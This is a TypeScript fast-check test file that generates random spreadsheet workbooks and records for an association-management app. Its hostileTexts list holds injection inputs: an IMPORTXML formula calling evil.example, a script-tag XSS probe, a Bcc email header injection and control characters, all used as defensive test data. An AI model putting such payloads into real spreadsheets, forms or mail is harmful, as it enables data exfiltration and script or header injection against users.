/** Random workbooks as people make them: ragged rows, texts that look like formulas, dates, errors, accents. */
import fc from 'fast-check';
import type { AnyRecord, Column, Table } from '../../src/core/table.ts';
import type { Cell, Grid, Workbook } from '../../src/core/workbook.ts';
import { oncePer } from './once-per.ts';

/** Texts that have broken spreadsheets, forms and mails before. */
export const hostileTexts = [
  '=IMPORTXML("http://evil.example";"//a")',
  '+33 6 39 98 11 22',
  '-1+1',
  '@SUM(A1)',
  "'apostrophe",
  '<script>alert(1)</script>',
  'Objet\r\nBcc: tous@example.org',
  '\u202eelpmaxe',
  '0612345678',
  '1/2',
  'TRUE',
  'é'.repeat(300),
  '#REF!',
  ' ',
  '\u0000',
] as const;

/** One entered cell. */
export const cell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 4, arbitrary: fc.constant(null) },
  { weight: 4, arbitrary: fc.string({ maxLength: 12 }).map((text) => (text === '' ? null : text)) },
  { weight: 2, arbitrary: fc.constantFrom(...hostileTexts) },
  {
    weight: 3,
    arbitrary: fc.double({ min: -1e6, max: 1e6, noNaN: true }).map((number) => Math.round(number * 100) / 100 + 0),
  },
  { weight: 1, arbitrary: fc.boolean() },
  {
    weight: 1,
    arbitrary: fc.constantFrom('=SUM(A1:A3)', '=A1&"x;y"', '=1+1', '=IF(A1=1;"a,b";2)').map((formula) => ({ formula })),
  },
);

/** A tab's content. */
export const grid: fc.Arbitrary<Grid> = fc.array(fc.array(cell, { maxLength: 8 }), { maxLength: 12 });

/** A workbook of her own tabs. */
export const workbook: fc.Arbitrary<Workbook> = fc.dictionary(
  fc.constantFrom('Feuille 1', 'Adhérents 2023', 'Locaux', "L'équipe", 'BP'),
  grid,
  { maxKeys: 4, noNullPrototype: true },
);

/** Some records of a table, with ids of its own; most fields are filled, or most are empty. */
export const records = oncePer((table: Table): fc.Arbitrary<AnyRecord[]> => {
  const fields = table.columns.slice(1);
  const full = fc.record(Object.fromEntries(fields.map((column) => [column.field, value(column, 5)])));
  const sparse = fc.record(Object.fromEntries(fields.map((column) => [column.field, value(column, 0.4)])));
  const one = fc.oneof(full, sparse);
  const idField = table.columns[0]?.field ?? 'id';
  return fc
    .array(one, { maxLength: 6 })
    .map((rows) =>
      rows.map((row, index) => ({ [idField]: `${table.prefix}-${String(index + 1).padStart(4, '0')}`, ...row })),
    );
});

/** What a record's field points to, by the prefix of its ids. */
const references: Readonly<Record<string, readonly string[]>> = {
  member: ['ADH'],
  merged_into: ['ADH'],
  space: ['ESP'],
  occupancy: ['OCC'],
  payment: ['PAI'],
  settles: ['COT', 'RED'],
  grant: ['FIN'],
  line: ['BUD'],
  fee: ['COT'],
  record: ['ADH', 'COT', 'ESP', 'OCC'],
};

const text = fc
  .oneof(fc.string({ minLength: 1, maxLength: 20 }), fc.constantFrom(...hostileTexts))
  .filter((one) => one.trim() !== '');
const dayBetween = (from: string, to: string) =>
  fc
    .date({ min: new Date(from), max: new Date(to), noInvalidDate: true })
    .map((date) => date.toISOString().slice(0, 10));
// Commands decide on 12/05/2023: most of what they meet happens around then.
const day = fc.oneof(
  dayBetween('1950-01-01', '2060-12-31'),
  dayBetween('2020-01-01', '2026-12-31'),
  dayBetween('2023-05-01', '2023-05-31'),
);

/** A value of the column, or none: `often` times as often filled as empty. */
function value(column: Column, often: number): fc.Arbitrary<AnyRecord[string]> {
  const some = (): fc.Arbitrary<AnyRecord[string]> => {
    switch (column.type) {
      case 'id':
      case 'text': {
        if (column.field === 'email')
          return fc.oneof(text, fc.constantFrom('elodie@maree.example', 'sam@maree.example'));
        if (['code', 'programme', 'project'].includes(column.field))
          return fc.oneof(
            { weight: 3, arbitrary: fc.constantFrom('CLUB', 'CRESC', 'DIAG') },
            { weight: 1, arbitrary: text },
          );
        const prefixes = references[column.field];
        if (prefixes === undefined) return text;
        const id = fc
          .tuple(fc.constantFrom(...prefixes), fc.integer({ min: 1, max: 3 }))
          .map(([prefix, number]) => `${prefix}-000${number}`);
        return fc.oneof({ weight: 3, arbitrary: id }, { weight: 1, arbitrary: text });
      }
      case 'list':
        return fc.array(
          text
            .filter((one) => !one.includes(';'))
            .map((one) => one.trim())
            .filter((one) => one !== ''),
          { maxLength: 3 },
        );
      case 'integer':
        return column.field === 'year'
          ? fc.integer({ min: 2021, max: 2024 })
          : fc.integer({ min: -1000, max: 100_000 });
      case 'decimal':
        // Nobody types what is closer to nothing than 1e-300, and spreadsheets take it as text or as 0.
        return fc.double({ min: -1000, max: 1000, noNaN: true }).map((one) => (Math.abs(one) < 1e-300 ? 0 : one));
      case 'money':
        return fc.integer({ min: -100_000_000, max: 100_000_000 });
      case 'date':
        if (column.field === 'month')
          return fc.oneof(
            fc.constant('2023-05'),
            day.map((one) => one.slice(0, 7)),
          );
        return fc.tuple(day, fc.constantFrom(10, 7, 4)).map(([one, length]) => one.slice(0, length));
      case 'time':
        return fc
          .integer({ min: 0, max: 1439 })
          .map(
            (minutes) =>
              `${String(Math.floor(minutes / 60)).padStart(2, '0')}:${String(minutes % 60).padStart(2, '0')}`,
          );
      case 'yes_no':
        return fc.boolean();
      case 'choice':
        return fc.constantFrom(...Object.keys(column.choices ?? {}));
    }
  };
  if (column.type === 'list' || column.field === 'month') return some();
  const filled = column.field === 'called_on' ? 0.2 : column.field === 'email' ? 5 : often;
  return fc.oneof({ weight: 10, arbitrary: fc.constant(null) }, { weight: Math.round(10 * filled), arbitrary: some() });
}
